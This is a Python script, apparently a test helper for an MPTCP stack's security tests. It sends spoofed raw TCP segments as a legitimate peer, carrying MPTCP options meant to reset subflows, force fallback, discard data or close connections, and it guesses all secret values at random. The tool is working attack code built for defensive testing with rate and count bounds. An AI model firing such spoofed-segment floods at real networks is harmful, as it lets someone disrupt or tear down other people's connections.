#!/usr/bin/env python3
"""Blind off-path injector of spoofed TCP segments with MPTCP options, for
t_mptcp_blind_inject.sh. Runs in the attacker's namespace.

    blind_inject.py CLASS --flow SRC:SPORT-DST:DPORT [--flow ...]
                    [--count N] [--rate PPS] [--max-seconds S] [--started FILE]

What the attacker knows: only the 4-tuples given with --flow (the test reads them
from `mptun status --json`; an off-path attacker would know the server's address
and port and guess or learn the client's port). Every packet is sent *as* SRC:SPORT
(the legitimate peer) to DST:DPORT. What it does not know, and so draws afresh for
every packet from the OS's CSPRNG (`secrets`): the TCP sequence and
acknowledgment numbers, the window, the TCP timestamps (TSval/TSecr, present in
half of the packets), the IP id, and every MPTCP value that is a secret or a
position: DSNs, DATA_ACKs, subflow sequence numbers, keys, HMACs. Nothing is
sniffed: the script opens no capture socket and reads nothing from the network.
What the attacker chooses (no secret): the option's kind and layout, flags, data
lengths, address ids (small integers), the payload (random bytes).

Why raw sockets (socket(AF_INET, SOCK_RAW, IPPROTO_RAW): we write the IPv4
header too) and not scapy: the segments are a few lines of struct.pack; the
standard library needs no install step, so nothing to fetch from PyPI on a fresh
CI machine; and every byte on the wire is spelled out here, checked against the
project's codec (stack/src/wire/mptcp.rs: lengths, flag bits, field order) and
decoded by tshark in the test. IPv4 only (the test's flows are IPv4).

Classes (RFC 8684 encodings, option kind 30; in brackets what the engine did
with such a segment before validating it at the TCP level):
  rm_addr      ACK + REMOVE_ADDR, ids [0] or [0..7]   [resets the subflows of those ids]
  mp_fail      ACK + MP_FAIL, random DSN               [infinite mapping: fallback]
  data_ack     ACK + DSS DATA_ACK (3 in 4 32-bit)      [discards unacknowledged data,
                                                         moves the send window's end]
  dss_map      ACK(+PSH, payload) + DSS mapping, random DSN/SSN, length 1..65535
                                                        [installs receive mappings]
  dss_infinite ACK + DSS infinite mapping (length 0)   [fallback]
  data_fin     ACK + DSS DATA_FIN (mapping length 1, SSN 0), half with TCP FIN
  mp_prio      ACK + MP_PRIO B=1                       [subflow becomes backup]
  rst          RST / RST+ACK at random sequence numbers
  mp_tcprst    RST+ACK + MP_TCPRST (random flags and reason)
  fastclose    ACK or RST + MP_FASTCLOSE with a random key
  add_addr     ACK + ADD_ADDR (v1, random address id, random HMAC)

Every flood is bounded: at most --count packets (default 2000), at most --rate
packets per second (default 10000), at most --max-seconds (default 10).

Prints one JSON line: class, sent (per flow and total), seconds, and the first
packets' MPTCP options in hex.
"""

import argparse
import ipaddress
import json
import secrets
import socket
import struct
import sys
import time

TCPOPT_MPTCP = 30
FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10

CLASSES = ("rm_addr", "mp_fail", "data_ack", "dss_map", "dss_infinite", "data_fin",
           "mp_prio", "rst", "mp_tcprst", "fastclose", "add_addr")


def rnd(bits):
    return secrets.randbits(bits)


def mptcp_opt(subtype_byte, body):
    """Kind 30, length, the subtype byte (subtype << 4 | low nibble), body."""
    return bytes([TCPOPT_MPTCP, 3 + len(body), subtype_byte]) + body


def dss(data_ack=None, ack64=False, mapping=None, dsn64=False, data_fin=False):
    """DSS (subtype 2): flags F=0x10 m=0x08 M=0x04 a=0x02 A=0x01, then DATA_ACK
    (4/8), then DSN (4/8), SSN (4), data-level length (2); no checksum (the
    connections under test negotiated none)."""
    flags = 0
    body = b""
    if data_ack is not None:
        flags |= 0x01
        if ack64:
            flags |= 0x02
            body += struct.pack("!Q", data_ack)
        else:
            body += struct.pack("!I", data_ack & 0xFFFFFFFF)
    if mapping is not None:
        dsn, ssn, length = mapping
        flags |= 0x04
        if dsn64:
            flags |= 0x08
            body += struct.pack("!Q", dsn)
        else:
            body += struct.pack("!I", dsn & 0xFFFFFFFF)
        body += struct.pack("!IH", ssn, length)
    if data_fin:
        flags |= 0x10
    return mptcp_opt(2 << 4, bytes([flags]) + body)


def remove_addr(ids):
    return mptcp_opt(4 << 4, bytes(ids))


def mp_prio(backup):
    return mptcp_opt(5 << 4 | int(backup), b"")


def mp_fail(dsn):
    return mptcp_opt(6 << 4, b"\x00" + struct.pack("!Q", dsn))


def mp_fastclose(key):
    return mptcp_opt(7 << 4, b"\x00" + struct.pack("!Q", key))


def mp_tcprst(flags, reason):
    return mptcp_opt(8 << 4 | (flags & 0x0F), bytes([reason]))


def add_addr_v1(addr_id, addr, port, hmac):
    body = bytes([addr_id]) + ipaddress.IPv4Address(addr).packed
    if port is not None:
        body += struct.pack("!H", port)
    return mptcp_opt(3 << 4, body + struct.pack("!Q", hmac))


def timestamps():
    """NOP NOP TS(TSval, TSecr), both random."""
    return b"\x01\x01" + struct.pack("!BBII", 8, 10, rnd(32), rnd(32))


def rand_dsn():
    """A random DSN in the 32- or 64-bit form."""
    return rnd(64), bool(rnd(1))


def make(cls, i):
    """The TCP flags, options and payload of packet i of class cls."""
    flags = ACK
    payload = b""
    if cls == "rm_addr":
        opt = remove_addr([0] if i % 2 == 0 else list(range(8)))
    elif cls == "mp_fail":
        opt = mp_fail(rnd(64))
    elif cls == "data_ack":
        # Three in four 32-bit: expanded against the receiver's own snd_una, a
        # random 32-bit value lands among its unacknowledged bytes with
        # probability (bytes in flight) / 2^32; a random 64-bit one practically never.
        opt = dss(data_ack=rnd(64), ack64=(i % 4 == 3))
    elif cls == "dss_map":
        dsn, dsn64 = rand_dsn()
        with_ack = bool(rnd(1))
        opt = dss(data_ack=rnd(64) if with_ack else None, ack64=bool(rnd(1)),
                  mapping=(dsn, rnd(32), 1 + secrets.randbelow(65535)), dsn64=dsn64)
        if i % 2 == 0:
            payload = secrets.token_bytes(1 + secrets.randbelow(1200))
            flags |= PSH
    elif cls == "dss_infinite":
        dsn, dsn64 = rand_dsn()
        opt = dss(data_ack=rnd(64), ack64=bool(rnd(1)), mapping=(dsn, 0, 0), dsn64=dsn64)
        if i % 2 == 0:
            payload = secrets.token_bytes(1 + secrets.randbelow(1200))
            flags |= PSH
    elif cls == "data_fin":
        dsn, dsn64 = rand_dsn()
        opt = dss(data_ack=rnd(64), ack64=bool(rnd(1)), mapping=(dsn, 0, 1), dsn64=dsn64,
                  data_fin=True)
        if i % 2 == 1:
            flags |= FIN
    elif cls == "mp_prio":
        opt = mp_prio(True)
    elif cls == "rst":
        opt = b""
        flags = RST if i % 2 == 0 else RST | ACK
    elif cls == "mp_tcprst":
        opt = mp_tcprst(rnd(4), secrets.randbelow(7))
        flags = RST | ACK
    elif cls == "fastclose":
        opt = mp_fastclose(rnd(64))
        flags = ACK if i % 2 == 0 else RST | ACK
    elif cls == "add_addr":
        addr = f"10.{secrets.randbelow(256)}.{secrets.randbelow(256)}.{1 + secrets.randbelow(254)}"
        opt = add_addr_v1(1 + secrets.randbelow(255), addr,
                          1024 + secrets.randbelow(60000) if i % 2 else None, rnd(64))
    else:
        raise ValueError(cls)
    return flags, opt, payload


def checksum(data):
    if len(data) % 2:
        data += b"\x00"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def packet(src, sport, dst, dport, flags, opts, payload):
    """An IPv4 datagram with a TCP segment: random seq, ack, window, IP id."""
    if len(opts) % 4:
        opts += b"\x01" * (4 - len(opts) % 4)  # NOP padding
    assert len(opts) <= 40, len(opts)
    doff = (20 + len(opts)) // 4
    seq, ack = rnd(32), rnd(32) if flags & ACK else 0
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, doff << 4, flags,
                      rnd(16), 0, 0) + opts + payload
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    csum = checksum(pseudo + tcp)
    tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
    total = 20 + len(tcp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, rnd(16), 0x4000, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def parse_flow(text):
    """SRC:SPORT-DST:DPORT (IPv4)."""
    try:
        a, b = text.split("-")
        src, sport = a.rsplit(":", 1)
        dst, dport = b.rsplit(":", 1)
        ipaddress.IPv4Address(src)
        ipaddress.IPv4Address(dst)
        return src, int(sport), dst, int(dport)
    except ValueError as e:
        raise argparse.ArgumentTypeError(f"--flow wants SRC:SPORT-DST:DPORT (IPv4), not {text!r}: {e}")


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("cls", choices=CLASSES)
    p.add_argument("--flow", action="append", type=parse_flow, required=True,
                   help="SRC:SPORT-DST:DPORT: send as SRC:SPORT to DST:DPORT (repeatable: round robin)")
    p.add_argument("--count", type=int, default=2000)
    p.add_argument("--rate", type=float, default=10000.0, help="packets per second, at most")
    p.add_argument("--max-seconds", type=float, default=10.0)
    p.add_argument("--started", metavar="FILE", help="create FILE once the first packet is sent")
    a = p.parse_args()
    if not 0 < a.count <= 20000 or not 0 < a.rate <= 50000 or not 0 < a.max_seconds <= 60:
        p.error("bounds: 0 < count <= 20000, 0 < rate <= 50000, 0 < max-seconds <= 60")

    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = [0] * len(a.flow)
    samples = []
    t0 = time.monotonic()
    deadline = t0 + a.max_seconds
    gap = 1.0 / a.rate
    for n in range(a.count):
        now = time.monotonic()
        if now >= deadline:
            break
        due = t0 + n * gap
        if due > now:
            time.sleep(due - now)
        k = n % len(a.flow)
        src, sport, dst, dport = a.flow[k]
        flags, opt, payload = make(a.cls, n // len(a.flow))
        opts = opt + (timestamps() if rnd(1) and len(opt) <= 28 else b"")
        s.sendto(packet(src, sport, dst, dport, flags, opts, payload), (dst, 0))
        sent[k] += 1
        if n == 0 and a.started:
            with open(a.started, "w") as f:
                f.write("started\n")
        if len(samples) < 4:
            samples.append(opt.hex())
    secs = time.monotonic() - t0
    print(json.dumps({
        "class": a.cls,
        "sent": sum(sent),
        "per_flow": {f"{f[0]}:{f[1]}-{f[2]}:{f[3]}": c for f, c in zip(a.flow, sent)},
        "seconds": round(secs, 3),
        "options_hex": samples,
    }), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
